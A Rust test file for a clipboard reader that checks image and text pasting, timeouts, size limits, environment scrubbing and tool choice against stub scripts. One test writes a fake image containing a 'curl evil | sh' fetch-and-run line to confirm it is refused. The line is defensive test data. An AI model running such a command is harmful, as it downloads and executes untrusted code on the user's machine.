//! The clipboard reader against stub `wl-paste`, `xclip`, `osascript` and `pbpaste` scripts
//! first (or alone) on the `PATH` a test hands in: a tiny real PNG, text only, nothing, a hang,
//! a failure, an endless stream, a script posing as an image.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use super::tools::{self, Backend, Pick};
use super::*;

/// A 1×1 PNG.
pub(crate) const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82";

/// A folder of stub tools and what they serve.
pub(crate) struct Stubs {
    pub dir: tempfile::TempDir,
}

impl Stubs {
    pub(crate) fn new() -> Stubs {
        let stubs = Stubs {
            dir: tempfile::tempdir().unwrap(),
        };
        std::fs::write(stubs.path("shot.png"), PNG).unwrap();
        stubs
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Writes the executable `name` running `body` (sh); `$D` is the stubs' folder.
    pub(crate) fn tool(&self, name: &str, body: &str) {
        let script = format!(
            "#!/bin/sh\nD='{}'\necho \"$*\" >> \"$D/{name}.args\"\n{body}\n",
            self.dir.path().display()
        );
        let p = self.path(name);
        std::fs::write(&p, script).unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }

    /// A Wayland session whose `PATH` is the stubs, then the system's tools for `sh`'s
    /// commands (`cat`, `sleep`, `yes`).
    pub(crate) fn wayland(&self) -> ClipEnv {
        ClipEnv {
            path: format!("{}:/usr/bin:/bin", self.dir.path().display()).into(),
            vars: vec![("WAYLAND_DISPLAY".into(), "wayland-1".into())],
            macos: false,
            timeout: Duration::from_secs(5),
        }
    }

    /// `wl-paste` offering `types` and serving `shot.png` as the image, `hello` as text.
    pub(crate) fn wl_paste(&self, types: &str) {
        self.tool(
            "wl-paste",
            &format!(
                "case \"$*\" in\n  *--list-types*) printf '{types}' ;;\n  *image/*) cat \"$D/shot.png\" ;;\n  *) printf 'hello' ;;\nesac"
            ),
        );
    }

    fn args(&self, name: &str) -> String {
        std::fs::read_to_string(self.path(&format!("{name}.args"))).unwrap_or_default()
    }
}

#[test]
fn a_png_is_read_and_saved_private() {
    let s = Stubs::new();
    s.wl_paste("text/html\\nimage/jpeg\\nimage/png\\n");
    let data = tempfile::tempdir().unwrap();
    let dir = pith_config::images::dir(data.path());
    match paste(&s.wayland(), &dir, true, None) {
        Pasted::Image { path, kind, bytes } => {
            assert_eq!(kind, ImageKind::Png);
            assert_eq!(bytes, PNG.len() as u64);
            assert_eq!(std::fs::read(&path).unwrap(), PNG);
            assert_eq!(path.parent(), Some(dir.as_path()));
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600);
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        s.args("wl-paste"),
        "--list-types\n--no-newline --type image/png\n",
        "the PNG is asked for over the JPEG"
    );
}

#[test]
fn text_is_pasted_by_the_key_and_refused_by_the_command() {
    let s = Stubs::new();
    s.wl_paste("text/plain\\ntext/plain;charset=utf-8\\nUTF8_STRING\\n");
    let env = s.wayland();
    assert_eq!(read(&env, true, 1000), Ok(Clip::Text("hello".into())));
    assert!(
        s.args("wl-paste")
            .contains("--type text/plain;charset=utf-8")
    );
    let dir = s.path("images");
    assert_eq!(
        paste(&env, &dir, false, None),
        Pasted::Refused("the clipboard holds no image (it holds text)".into())
    );
    assert!(!dir.exists());
}

#[test]
fn an_empty_clipboard_and_a_failing_tool_are_told_apart() {
    let s = Stubs::new();
    s.tool("wl-paste", "echo 'No selection' >&2; exit 1");
    let dir = s.path("images");
    assert_eq!(
        paste(&s.wayland(), &dir, true, None),
        Pasted::Refused("the clipboard holds no image".into())
    );
    s.tool(
        "wl-paste",
        "printf '\\n  Failed to connect to a Wayland server\\033[31m\\nsecond line\\n' >&2; exit 1",
    );
    assert_eq!(
        paste(&s.wayland(), &dir, true, None),
        Pasted::Refused("wl-paste failed: Failed to connect to a Wayland server\\u{1b}[31m".into()),
        "the first line of stderr, its escape sequence made visible"
    );
}

#[test]
fn a_hung_tool_is_ended_with_its_children() {
    let s = Stubs::new();
    s.tool("wl-paste", "sleep 30 &\necho $! > \"$D/child.pid\"\nwait");
    let mut env = s.wayland();
    env.timeout = Duration::from_millis(300);
    let started = Instant::now();
    let got = paste(&env, &s.path("images"), true, None);
    assert!(
        started.elapsed() < Duration::from_secs(3),
        "{:?}",
        started.elapsed()
    );
    let Pasted::Refused(line) = got else {
        panic!("{got:?}")
    };
    assert!(
        line.starts_with("wl-paste did not answer within 0.3 s"),
        "{line}"
    );
    let pid = std::fs::read_to_string(s.path("child.pid")).unwrap();
    let proc = PathBuf::from(format!("/proc/{}", pid.trim()));
    let gone = (0..100).any(|_| {
        std::thread::sleep(Duration::from_millis(10));
        // gone, or a zombie waiting for init
        std::fs::read_to_string(proc.join("stat")).map_or(true, |stat| stat.contains(") Z"))
    });
    assert!(gone, "the tool's child still runs");
}

#[test]
fn an_endless_image_is_cut_at_the_limit_and_refused() {
    let s = Stubs::new();
    s.tool(
        "wl-paste",
        "case \"$*\" in *--list-types*) echo image/png ;; *) cat \"$D/shot.png\"; exec yes ;; esac",
    );
    let started = Instant::now();
    let got = read(&s.wayland(), true, 64 * 1024);
    assert_eq!(
        got,
        Err("the clipboard's image is larger than 64 KB: not attached".into())
    );
    assert!(started.elapsed() < Duration::from_secs(3));
    let big = paste(&s.wayland(), &s.path("images"), true, None);
    assert_eq!(
        big,
        Pasted::Refused("the clipboard's image is larger than 5 MB: not attached".into())
    );
    assert!(!s.path("images").exists());
}

#[test]
fn what_only_claims_to_be_an_image_is_not_saved() {
    let s = Stubs::new();
    std::fs::write(s.path("shot.png"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    s.wl_paste("image/png\\n");
    let dir = s.path("images");
    let Pasted::Refused(line) = paste(&s.wayland(), &dir, true, None) else {
        panic!()
    };
    assert!(line.contains("not a PNG, JPEG, GIF or WebP"), "{line}");
    assert!(!dir.exists());
    s.wl_paste("image/bmp\\nimage/tiff\\n");
    assert_eq!(
        read(&s.wayland(), true, 1000),
        Err("the clipboard's image is image/bmp: pith takes PNG, JPEG, GIF or WebP".into())
    );
}

#[test]
fn xclip_reads_the_clipboard_selection() {
    let s = Stubs::new();
    s.tool(
        "xclip",
        "case \"$*\" in *TARGETS*) printf 'TARGETS\\nimage/png\\nUTF8_STRING\\n' ;; *image/png*) cat \"$D/shot.png\" ;; esac",
    );
    let mut env = s.wayland();
    // a Wayland session without wl-paste, with XWayland: xclip
    env.vars.push(("DISPLAY".into(), ":0".into()));
    assert_eq!(read(&env, false, 1000), Ok(Clip::Image(PNG.to_vec())));
    assert_eq!(
        s.args("xclip"),
        "-selection clipboard -o -t TARGETS\n-selection clipboard -o -t image/png\n"
    );
    s.tool(
        "xclip",
        "echo 'Error: target TARGETS not available' >&2; exit 1",
    );
    assert_eq!(read(&env, true, 1000), Ok(Clip::NoImage { text: false }));
}

#[test]
fn macos_reads_the_png_through_osascript_and_text_through_pbpaste() {
    let s = Stubs::new();
    let hex: String = PNG.iter().map(|b| format!("{b:02X}")).collect();
    s.tool("osascript", &format!("echo '«data PNGf{hex}»'"));
    let env = ClipEnv {
        path: format!("{}:/usr/bin:/bin", s.dir.path().display()).into(),
        vars: Vec::new(),
        macos: true,
        timeout: Duration::from_secs(5),
    };
    assert_eq!(read(&env, true, 1000), Ok(Clip::Image(PNG.to_vec())));
    s.tool(
        "osascript",
        "echo \"execution error: Can’t make some data into the expected type. (-1700)\" >&2; exit 1",
    );
    s.tool("pbpaste", "printf 'some words'");
    assert_eq!(read(&env, true, 1000), Ok(Clip::Text("some words".into())));
    assert_eq!(read(&env, false, 1000), Ok(Clip::NoImage { text: true }));
}

#[test]
fn the_tool_gets_no_variable_but_the_display_s() {
    let s = Stubs::new();
    s.tool(
        "wl-paste",
        "env > \"$D/env\"; echo 'No selection' >&2; exit 1",
    );
    let mut env = s.wayland();
    env.vars
        .push(("XDG_RUNTIME_DIR".into(), "/run/user/1000".into()));
    read(&env, true, 1000).unwrap();
    let seen = std::fs::read_to_string(s.path("env")).unwrap();
    assert!(seen.contains("WAYLAND_DISPLAY=wayland-1"), "{seen}");
    assert!(seen.contains("XDG_RUNTIME_DIR=/run/user/1000"), "{seen}");
    // the test runner's own environment (CARGO_*, and any key it holds) stays out
    assert!(!seen.contains("CARGO"), "{seen}");
    let from_process = ClipEnv::from_process();
    assert!(
        from_process
            .vars
            .iter()
            .all(|(k, _)| !k.contains("KEY") && !k.contains("TOKEN") && !k.starts_with("CARGO")),
        "{:?}",
        from_process.vars
    );
}

#[test]
fn the_tool_is_chosen_from_the_session_and_an_absolute_path() {
    let s = Stubs::new();
    let env = |path: &Path, vars: &[(&str, &str)]| ClipEnv {
        path: path.as_os_str().to_owned(),
        vars: vars
            .iter()
            .map(|(k, v)| (k.to_string(), v.into()))
            .collect(),
        macos: false,
        timeout: Duration::from_secs(1),
    };
    let dir = s.dir.path();
    let none = tools::choose(&env(dir, &[])).unwrap_err();
    assert!(
        none.contains("neither WAYLAND_DISPLAY nor DISPLAY"),
        "{none}"
    );
    let way = tools::choose(&env(dir, &[("WAYLAND_DISPLAY", "w")])).unwrap_err();
    assert_eq!(
        way,
        "no clipboard tool: install wl-clipboard (wl-paste is not on PATH)"
    );
    let x = tools::choose(&env(dir, &[("DISPLAY", ":0")])).unwrap_err();
    assert_eq!(x, "no clipboard tool: install xclip (it is not on PATH)");
    s.wl_paste("");
    s.tool("xclip", "");
    assert_eq!(
        tools::choose(&env(dir, &[("WAYLAND_DISPLAY", "w"), ("DISPLAY", ":0")])),
        Ok(Backend::Wayland(s.path("wl-paste")))
    );
    assert_eq!(
        tools::choose(&env(dir, &[("WAYLAND_DISPLAY", ""), ("DISPLAY", ":0")])),
        Ok(Backend::X11(s.path("xclip"))),
        "an empty variable is no session"
    );
    // a relative PATH entry would find the workspace's own wl-paste: skipped
    let relative = env(Path::new("."), &[("WAYLAND_DISPLAY", "w")]);
    assert!(relative.find("wl-paste").is_none());
    // not executable: not a tool
    std::fs::write(s.path("xclip"), "").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(s.path("xclip"), std::fs::Permissions::from_mode(0o644)).unwrap();
    assert!(tools::choose(&env(dir, &[("DISPLAY", ":0")])).is_err());
}

#[test]
fn sizes_read_as_people_write_them() {
    assert_eq!(size_label(312), "312 B");
    assert_eq!(size_label(319_488), "312 KB");
    assert_eq!(size_label(5 * 1024 * 1024), "5 MB");
    assert_eq!(size_label(1_468_006), "1.4 MB");
}

#[test]
fn type_lists_and_osascript_output_are_parsed() {
    let t = tools::types(b"TARGETS\r\n  image/PNG \n\nUTF8_STRING\n");
    assert_eq!(t, ["TARGETS", "image/PNG", "UTF8_STRING"]);
    assert_eq!(tools::pick(&t), Pick::Image("image/PNG".into()));
    let t = tools::types(b"image/webp\nimage/gif\n");
    assert_eq!(tools::pick(&t), Pick::Image("image/webp".into()));
    assert_eq!(
        tools::pick(&tools::types(b"image/x-bmp\ntext/plain\n")),
        Pick::OtherImage("image/x-bmp".into())
    );
    assert_eq!(
        tools::pick(&tools::types(b"STRING\nTEXT\n")),
        Pick::Text("STRING".into())
    );
    assert_eq!(tools::pick(&tools::types(b"text/html\n")), Pick::Nothing);
    assert_eq!(
        tools::osascript_png("«data PNGf89504E47»\n".as_bytes()),
        Some(vec![0x89, 0x50, 0x4E, 0x47])
    );
    assert_eq!(tools::osascript_png("«data TIFF4D4D»".as_bytes()), None);
    assert_eq!(tools::osascript_png("«data PNGf895»".as_bytes()), None);
    assert_eq!(tools::osascript_png("«data PNGfZZ»".as_bytes()), None);
}

#[test]
fn an_image_for_a_model_without_images_is_refused_before_it_is_saved() {
    let s = Stubs::new();
    s.wl_paste("image/png\\n");
    let dir = s.path("images");
    let why = "local/tiny does not take images";
    assert_eq!(
        paste(&s.wayland(), &dir, true, Some(why)),
        Pasted::Refused(why.into())
    );
    assert!(!dir.exists(), "nothing was saved");
    // text still pastes
    s.wl_paste("UTF8_STRING\\n");
    assert_eq!(
        paste(&s.wayland(), &dir, true, Some(why)),
        Pasted::Text("hello".into())
    );
}
